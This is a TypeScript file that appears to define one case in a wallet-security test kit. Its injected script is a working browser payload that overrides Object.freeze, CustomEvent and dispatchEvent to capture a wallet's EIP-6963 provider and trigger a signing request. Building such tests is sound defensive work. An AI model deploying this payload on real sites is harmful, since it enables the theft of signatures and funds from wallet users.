import type { Attack } from './kit/attack.ts'
import { PROVIDER_KNOWN_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'announced',
  how: 'Replaces CustomEvent, Object.freeze and dispatchEvent before the wallet announces itself again, to be handed its provider.',
  head: `
    <script>
      const use = (value) => { try { (value?.detail?.provider ?? value?.provider)?.request(attack.sign) } catch {} }
      const { freeze } = Object
      Object.freeze = (value) => { use(value); return freeze(value) }
      const Made = CustomEvent
      window.CustomEvent = function (name, init) { use(init); return new Made(name, init) }
      const dispatch = EventTarget.prototype.dispatchEvent
      window.dispatchEvent = EventTarget.prototype.dispatchEvent = function (event) { use(event); return dispatch.call(this ?? window, event) }
      dispatch.call(window, new Event('eip6963:requestProvider'))
      document.addEventListener('DOMContentLoaded', () => dispatch.call(window, new Event('eip6963:requestProvider')), true)
    </script>
  `,
  script: 'await attack.sleep(300)',
  open: { 'wallet-before': PROVIDER_KNOWN_FIRST },
} satisfies Attack
